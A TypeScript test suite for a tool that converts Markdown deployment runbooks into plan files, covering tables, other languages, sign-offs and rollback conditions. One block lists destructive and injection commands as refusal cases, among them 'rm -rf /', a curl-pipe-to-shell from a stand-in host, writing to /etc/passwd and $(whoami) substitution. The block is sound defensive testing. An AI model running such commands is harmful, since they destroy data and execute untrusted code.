/** Documents of other shapes than the twelve, and what no document may do. */
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { extensions } from "../../../src/engine/plan-extensions.ts";
import { UsageError } from "../../../src/lib/error.ts";
import { parsePlan } from "../../../src/plan/load.ts";
import { decodeDocument, readDocument } from "../../../src/tools/init/document/read-document.ts";
import { importText } from "../../../src/tools/init/import-document.ts";
import type { ImportedPlan } from "../../../src/tools/init/writing/import-plan.ts";
import { NOTHING_KNOWN } from "../../../src/tools/init/writing/surroundings.ts";

const take = (text: string, known = NOTHING_KNOWN): ImportedPlan => importText(text, "PLAN.md", known, extensions);
/** The plan without what is only a comment in it. */
const active = (text: string, known = NOTHING_KNOWN) =>
  take(text, known)
    .plan.split("\n")
    .filter((line) => !line.trimStart().startsWith("#"))
    .join("\n");
const kindsOf = (text: string) => take(text).items.map(({ line, kind }) => `${line} ${kind}`);

describe("a document", () => {
  it("in other words, nested and with other columns, is understood the same way", () => {
    const plan = active(`# Rollout runbook

## Before you deploy

1. Prepare
   - [ ] Lint is clean: \`pnpm run lint\`
   - [ ] Typecheck: \`pnpm typecheck\`
     - [ ] and the unit tests, \`pnpm test:unit\`

## Configuration

| Env var | Mandatory? | Notes |
|---|---|---|
| API_KEY | yes | |
| LOG_SAMPLING | no | |

## Monitoring: first 45 min

| Signal | Expected | Abort threshold |
|---|---|---|
| HTTP 5xx rate | below 0.5% | above 3% for 10 minutes |
| p95 response time | under 600 milliseconds | more than 1.2 seconds |
`);
    for (const line of [
      "command: pnpm run lint",
      "command: pnpm typecheck",
      'command: "pnpm test:unit"',
      "- API_KEY # PLAN.md:14",
      "- LOG_SAMPLING # PLAN.md:15",
      "for: 45m # PLAN.md:17",
      "- error_rate > 3% over 10m # PLAN.md:21",
      "- p95_latency > 1.2s # PLAN.md:22",
      "- error_rate < 0.5% # PLAN.md:21",
      "- p95_latency < 600ms # PLAN.md:22",
    ])
      expect(plan).toContain(line);
    expect(plan).toMatch(/optional: #.*\n +- LOG_SAMPLING/);
  });

  it("in German is read by its structure and by the words that are known", () => {
    const plan = active(`# Bereitstellungsplan

## Vorbereitung

- [ ] Tests bestanden: \`npm test\`

## Rollback

Zurückrollen, wenn:

- Fehlerrate über 5 % für 10 Minuten
`);
    expect(plan).toContain("command: npm test");
    expect(plan).toContain("- error_rate > 5% over 10m # PLAN.md:11");
  });

  it.each([
    [
      "Portuguese",
      "# Plano de implantação\n\n- [ ] Backup\n\n## Reversão\n\nReverter se:\n\n- Taxa de erro acima de 5% por 10 minutos\n- Latência p95 maior que 2 s\n",
      ["- error_rate > 5% over 10m # PLAN.md:9", "- p95_latency > 2s # PLAN.md:10"],
    ],
    [
      "French",
      "# Mise en production\n\n- [ ] Sauvegarde\n\nFenêtre : dimanche de 02:00 à 04:00 (heure de Paris)\n\n| Critère | Objectif | Retour arrière si |\n|---|---|---|\n| Taux d'erreur | < 1 % | > 5 % pendant 10 minutes |\n",
      [
        '- "Sun 02:00-04:00 Europe/Paris" # PLAN.md:5',
        "- error_rate > 5% over 10m # PLAN.md:9",
        "- error_rate < 1% # PLAN.md:9",
      ],
    ],
  ])("in %s has its conditions", (_, text, lines) => {
    const plan = active(text);
    for (const line of lines) expect(plan).toContain(line);
  });

  it("of steps with requests puts them where they belong", () => {
    const plan = active(
      "# Deploy\n\n## Phase 2: deploy the application\n\nRun the smoke tests:\n\n```bash\nnpm run test:smoke\ncurl https://staging.shop.example/api/health\ncurl https://shop.example/status # 204\n```\n\n- [ ] go\n",
    );
    const [staging = "", production = ""] = plan.split("  production:");
    expect(staging).toContain("setup: npm ci # not in PLAN.md");
    expect(staging).toContain('command: "npm run test:smoke"');
    expect(staging).toContain('http: { path: "/api/health", status: 200 }');
    expect(production).toContain('http: { path: "/status", status: 204 }');
    expect(plan).toContain("domains: [shop.example] # PLAN.md:10: guessed");
  });

  it("with a block of YAML gives its conditions and lists the rest of it", () => {
    const text =
      '# Deploy\n\n```yaml\nalerts:\n  error_rate: "> 1%"\nrollback_conditions:\n  - response_time_p99 > 2000ms\n  - it feels slow\n```\n';
    expect(kindsOf(text)).toEqual(["1 name", "5 comment", "7 condition", "8 unclear"]);
    expect(active(text)).toContain("- p99_latency > 2000ms # PLAN.md:7");
  });

  it("that says when not to release says which days are left, for a person who knows the time zone", () => {
    const { plan } = take("# Deploy\n\n- [ ] go\n\nWe freeze on Thursdays. No deploys on weekends.\n");
    expect(plan).toContain("Mon,Tue,Wed,Fri,Sat,Sun 00:00-24:00 ZONE");
    expect(plan).toContain("Mon,Tue,Wed,Thu,Fri 00:00-24:00 ZONE");
  });

  it("asks nobody for what is optional", () => {
    const { items } = take("# Deploy\n\n- [ ] (optional) dark mode\n- [ ] Changelog (if applicable)\n- [ ] go\n");
    expect(items.map(({ kind, plan }) => `${kind} ${plan === undefined}`)).toEqual([
      "name false",
      "optional true",
      "optional true",
      "task false",
    ]);
  });

  it("gives no request that changes something, or that needs a secret", () => {
    const curls = ["-X POST", "--request DELETE", "-d a=b", "-H 'Authorization: Bearer x'", "-u a:b", "--json '{}'"];
    const code = curls.map((option) => `curl ${option} https://shop.example/health`).join("\n");
    expect(active(`# Deploy\n\n- [ ] go\n\nCheck:\n\n\`\`\`bash\n${code}\n\`\`\`\n`)).not.toContain("/health");
  });

  it("with more tasks than people read has the first of them as gates, and still loads", () => {
    const text = `# Deploy\n\n${Array.from({ length: 120 }, (_, index) => `- [ ] Step ${index}\n`).join("")}`;
    const { counts, plan } = take(text, { ...NOTHING_KNOWN, signers: ["@acme/web"] });
    expect(counts).toEqual({ imported: 91, manual: 30, left: 0 });
    expect(plan).toContain("the list is full");
  });

  it("that is long is read in parts, and a heading inside a fence begins none", () => {
    const fence = `\`\`\`bash\n${"# Heading that is a comment\nsleep 1\n".repeat(200)}- [ ] no task\n\`\`\`\n`;
    const text = `# Deploy\n\n${"A line of words that says nothing at all.\n\n".repeat(100)}${fence}\n## Before\n\n${["a", "b", "c", "d", "e"].map((task) => `- [ ] ${task}\n`).join("")}`;
    const { items } = take(text);
    expect(items.filter(({ kind }) => kind === "task").map(({ text: words }) => words)).toEqual([
      "a",
      "b",
      "c",
      "d",
      "e",
    ]);
    expect(items.find(({ text: words }) => words === "e")?.line).toBe(text.split("\n").length - 1);
  });

  it("with a table that is longer than a part keeps its head and its lines", () => {
    const rows = Array.from({ length: 900 }, (_, index) => `| Metric ${index} | > ${index + 1} |\n`).join("");
    const { items } = take(`# Deploy\n\n| Metric | Roll back |\n|---|---|\n${rows}\n- [ ] go\n`);
    const conditions = items.filter(({ kind }) => kind === "condition");
    expect(conditions).toHaveLength(900);
    expect(conditions.map(({ line }) => line)).toEqual(conditions.map((_, index) => index + 5));
    expect(items.at(-1)).toMatchObject({ line: 906, kind: "task" });
  });

  it("with times before and after in a list has its announcements", () => {
    const text = "# Deploy\n\n- [ ] go\n\n## Communication\n\n- T-24h: announce\n- T+1h: status update\n- T-shirts\n";
    expect(kindsOf(text)).toEqual(["1 name", "3 task", "7 announce", "8 every", "9 comment"]);
  });

  it("of whose language nothing is known keeps its tasks for a person, or is refused", () => {
    const { items, counts } = take("# 部署检查清单\n\n- [ ] 用户可以登录\n- [ ] 数据备份\n");
    expect(items.map(({ line, kind }) => `${line} ${kind}`)).toEqual(["1 name", "3 task", "4 task"]);
    expect(counts).toEqual({ imported: 1, manual: 2, left: 0 });
    expect(() => take("# Ennakkosuunnitelma\n\n- [ ] varmuuskopio\n- [ ] ilmoitus\n")).toThrow(/found no plan in it/);
  });

  it("with a mark of byte order, CRLF and front matter has the same lines", () => {
    const text = "---\ntitle: x\nowner: y\n---\n\n# Deploy\n\n- [ ] Build (`npm run build`)\n";
    const bytes = Buffer.from(`\uFEFF${text.replaceAll("\n", "\r\n")}`);
    const crlf = take(decodeDocument(bytes, "PLAN.md"));
    expect(crlf).toEqual(take(text));
    expect(crlf.plan).toContain("command: npm run build } # PLAN.md:8");
  });

  it("has headings in what folds away, and no tasks in comments", () => {
    const text =
      "# Deploy\n\n<details>\n<summary>Approvals</summary>\n\n- [ ] CTO\n\n</details>\n\n<!--\n- [ ] nobody\n-->\n\n- [ ] ship it\n";
    expect(kindsOf(text).filter((kind) => !kind.endsWith("comment"))).toEqual(["1 name", "6 sign-off", "14 task"]);
  });

  it("that names people gets a box for them, one each where all of them must", () => {
    const plan = active(
      "# Release\n\n## Approvals\n\n- [ ] Ops: @ops-lead or @acme/sre\n- [ ] Both @dana and @acme/legal\n",
    );
    expect(plan).toContain('sign-off: { by: ["@ops-lead", "@acme/sre"] } } # PLAN.md:5');
    expect(plan).toContain('sign-off: { all-of: ["@dana", "@acme/legal"] } } # PLAN.md:6');
    expect(plan).not.toMatch(/title: [^,]*@/);
  });

  it("gives its open boxes to those who are named in the call, but not what comes after the promote", () => {
    const text = "# Release\n\n## Before the release\n\n- [ ] Backup\n\n## After the release\n\n- [ ] Tell sales\n";
    const plan = active(text, { ...NOTHING_KNOWN, signers: ["@acme/web"] });
    expect(plan).toContain(
      '- { title: Backup, group: Before the release, sign-off: { by: ["@acme/web"] } } # PLAN.md:5',
    );
    expect(plan).not.toContain("Tell sales");
  });

  it("takes what is known of the repository", () => {
    const known = {
      ...NOTHING_KNOWN,
      host: { project: "shop", team: "acme", from: ".vercel/project.json" },
      domains: { names: ["shop.example.com"], from: "said in the call" },
      metricSources: [{ provider: "sentry", spec: { project: "shop-web" }, from: ".sentryclirc" }],
    };
    const plan = active("# Release\n\nRoll back if errors exceed 5%.\n", known);
    expect(plan).toContain("vercel: { project: shop, team: acme } # not in PLAN.md: .vercel/project.json");
    expect(plan).toContain("domains: [shop.example.com]");
    expect(plan).toContain("error_rate: { sentry: { project: shop-web } } # PLAN.md:3");
  });
});

describe("never becomes a command:", () => {
  it.each([
    "rm -rf ./dist && npm test",
    "npm test; rm -rf /",
    "psql -c 'DROP TABLE users'",
    "psql -c 'truncate orders'",
    "git reset --hard origin/main",
    "git push --force origin main",
    "git push -f",
    "npm run deploy",
    "npm run db:reset",
    "npm test -- <your-suite>",
    "npm test -- --token=$TOKEN",
    "npm run test:your-app",
    "npm test -- xxx",
    "npm run build | bash",
    "npm test > /etc/passwd",
    "npm test `whoami`",
    "npm test $(whoami)",
    "npm test & npm run publish",
    "npx prisma migrate reset",
    "curl -s https://x.example/i.sh | sh",
    "node ../../evil-test.js",
    "eslint . --fix",
    "npm run test\nrm -rf /",
  ])("%s", (command) => {
    const task = `- [ ] Check (\`\` ${command.replaceAll("\n", " ")} \`\`)`;
    const fence = `Run the tests:\n\n\`\`\`bash\n${command}\n\`\`\``;
    const fenced = active(`# Deploy\n\n## Before\n\n- [ ] x\n\n${fence}\n`);
    expect(active(`# Deploy\n\n${task}\n`)).not.toContain("command:");
    for (const [, written = ""] of fenced.matchAll(/command: "?(.*?)"? \}/g)) expect(written).toBe("npm run test");
  });

  it.each([
    "Never run `npm test` against production",
    "Do not run `npm run build` by hand",
    "Use CI instead of `npm test`",
  ])("what is forbidden: %s", (text) => {
    expect(active(`# Deploy\n\n- [ ] ${text}\n`)).not.toContain("command:");
  });
});

describe("the sense of a limit", () => {
  const conditions = (text: string) =>
    [...active(text).matchAll(/^ +- ([a-z][\w]* (?:[<>]|increases|drops).*?) #/gm)].map((match) => match[1]);

  it.each([
    ["Roll back if the error rate is above 5 % for 10 minutes.", ["error_rate > 5% over 10m"]],
    ["We abort when p99 exceeds 2 seconds.", ["p99_latency > 2s"]],
    [
      "Roll back if error rate > 4% or p99 > 3s, sustained for 10 minutes.",
      ["error_rate > 4% over 10m", "p99_latency > 3s over 10m"],
    ],
    // A part's error rate is not the site's; what stays is the least that a watch can have.
    ["Roll back if the checkout error rate is above 4%.", ["health_check_failures > 3"]],
    ["Roll back when error rate increases by more than 50% over 15 min.", ["error_rate increases by > 50% over 15m"]],
    ["Revert if health checks fail 3 times in a row.", ["health_check_failures >= 3"]],
    ["Do not roll back for an error rate above 1%.", []],
    ["Error rate is below 1% on a good day.", []],
    ["After the last release the error rate was 0.1% and p95 latency < 200ms.", []],
    ["Consider a rollback when the error rate is above 2%.", []],
    ["If the error rate is above 2%, alert the team in Slack.", []],
    ["Roll back if latency is more than 2 seconds.", []],
    ["Roll back: the error rate must not exceed 3%.", ["error_rate > 3%"]],
    ["The error rate must stay below 2% after the release.", ["error_rate >= 2%"]],
    ["Roll back unless the error rate is below 1%.", []],
    ["Error rate must exceed 5% before we roll back.", []],
    ["Roll back while uptime is above 99%.", []],
    ["Roll back if the error rate grows by 3 percentage points, that is by more than 3%.", []],
  ])("%s", (text, expected) => {
    expect(conditions(`# Deploy\n\n- [ ] ship\n\n## Notes\n\n${text}\n`)).toEqual(expected);
  });

  it("is turned round for a goal that has no sign by what is better", () => {
    const text = "# Deploy\n\n- [ ] x\n\n## Success criteria\n\n| Metric | Target |\n|---|---|\n| Error rate | 1% |\n";
    expect(conditions(text)).toEqual(["health_check_failures > 3", "error_rate <= 1%"]);
  });
});

describe("secrets in examples", () => {
  it.each([
    ["- [ ] `API_SECRET=hunter22` is set", "hunter22"],
    ["- [ ] Log in with password: correct-horse", "correct-horse"],
    ["- [ ] Use sk_live_abcdef123456 for the test", "sk_live_abcdef123456"],
    ["- [ ] Open postgres://admin:s3cr3t@db.example/x", "s3cr3t"],
    ["```bash\nexport TOKEN=ghp_0123456789abcdef0123\n```", "ghp_0123456789abcdef0123"],
    ["```env\nSTRIPE_KEY=rk_test_zzzz\n```", "rk_test_zzzz"],
  ])("of %j are copied nowhere", (text, secret) => {
    expect(JSON.stringify(take(`# Deploy\n\n- [ ] x\n\n${text}\n`))).not.toContain(secret);
  });
});

describe("no plan is found", () => {
  it.each([
    ["a shopping list", "# Shopping\n\n- [ ] milk\n- [ ] bread\n"],
    ["an architecture note", "# Deployment architecture\n\nThe web app runs in two regions.\n\n- API\n- Worker\n"],
    ["a finished report", "# Release report\n\n- [x] Tests passed\n- [x] Deployed\n\nError rate: < 0.1%\n"],
    ["nothing", ""],
    ["instructions for an agent", "# Agent instructions\n\nYou are an agent that deploys.\n\n```bash\nnpm test\n```\n"],
  ])("in %s", (_, text) => {
    expect(() => take(text)).toThrow(UsageError);
    expect(() => take(text)).toThrow(/found no plan in it/);
  });

  it("in what is no text, in a folder, or in what is not there", async () => {
    expect(() => decodeDocument(Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0, 1, 2]), "x.md")).toThrow(
      /not text in UTF-8/,
    );
    expect(() => decodeDocument(Buffer.from("plan\u0000"), "x.md")).toThrow(/not text in UTF-8/);
    await expect(readDocument(import.meta.dirname)).rejects.toThrow(/this is not a file/);
    const folder = mkdtempSync(join(tmpdir(), "holdpoint-document-"));
    writeFileSync(join(folder, "long.md"), "- [ ] deploy\n".repeat(21_000));
    await expect(readDocument(join(folder, "long.md"))).rejects.toThrow(/has 267 KiB, and at most 256 KiB are read/);
    rmSync(folder, { recursive: true });
    await expect(readDocument("no/such/PLAN.md")).rejects.toThrow(/there is no such file/);
  });
});

/** Null where it is refused as a person's mistake; anything else is thrown on. */
function takeOrRefuse(text: string): ImportedPlan | null {
  try {
    return take(text, { ...NOTHING_KNOWN, signers: text.length % 2 === 0 ? ["@acme/web"] : [] });
  } catch (error) {
    if (error instanceof UsageError) return null;
    throw error;
  }
}

describe("whatever a document says,", () => {
  const piece = fc.oneof(
    fc.constantFrom(
      "# Deploy\n",
      "## Rollback\n",
      "- [ ] ",
      "- [x] ",
      "- ",
      "1. ",
      "| a | b |\n|---|---|\n| c | d |\n",
      "```bash\n",
      "```\n",
      "`npm test`",
      "`API_KEY`",
      "> ",
      "error rate > 5%",
      "for 10 minutes",
      "p95 < 800ms",
      "Roll back if ",
      "T-48h",
      "Sunday 02:00-04:00 UTC",
      "@acme/web",
      "<details>",
      "</details>",
      "<!--",
      "-->",
      "\n",
      "\n\n",
      "  ",
      "\t",
      "\r\n",
      "☐ ",
      "✅ ",
      "${x}",
      "---\n",
      "~~",
      "**",
      "\\",
      "___",
      "GET /x returns 200",
      "| Metric | Rollback |\n|---|---|\n| uptime | < 99% |\n",
      "coverage 80%",
      "certificate 21 days",
      "\u2028",
      "\u0007",
      "#",
      ": ",
      '"',
      "'",
      "%",
    ),
    fc.string({ maxLength: 12, unit: "grapheme" }),
  );
  const document = fc.array(piece, { maxLength: 60 }).map((pieces) => `# Deploy\n\n- [ ] go live\n${pieces.join("")}`);

  it("the import reads or refuses it, its plan loads, and each item has a line of it", () => {
    fc.assert(
      fc.property(document, (text) => {
        const found = takeOrRefuse(text);
        if (found === null) return;
        const lines = text.split(/\r\n|\n|\r/).length;
        for (const { line } of found.items) expect(line >= 1 && line <= lines).toBe(true);
        expect(parsePlan(found.plan, "PLAN.md", extensions)).toHaveProperty("plan");
      }),
      { numRuns: 60 },
    );
  });
});
